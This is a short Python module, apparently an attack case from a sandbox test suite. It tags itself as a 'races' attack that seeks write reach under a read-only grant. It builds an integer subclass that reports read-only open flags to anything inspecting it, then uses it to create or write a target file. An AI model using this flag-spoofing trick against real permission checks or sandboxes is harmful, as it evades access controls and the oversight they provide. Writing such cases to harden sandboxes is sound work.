"""Flags that say differently each time."""
CATEGORY = "races"
REACH = "write"
GRANT = {"read": True}

import os

from . import payload


class Flags(int):
    asked = 0

    def __index__(self):
        self.asked += 1
        return os.O_RDONLY

    __int__ = __and__ = __rand__ = __or__ = __ror__ = __index__


def attack():
    os.close(os.open(payload.TARGET, Flags(os.O_CREAT | os.O_WRONLY)))
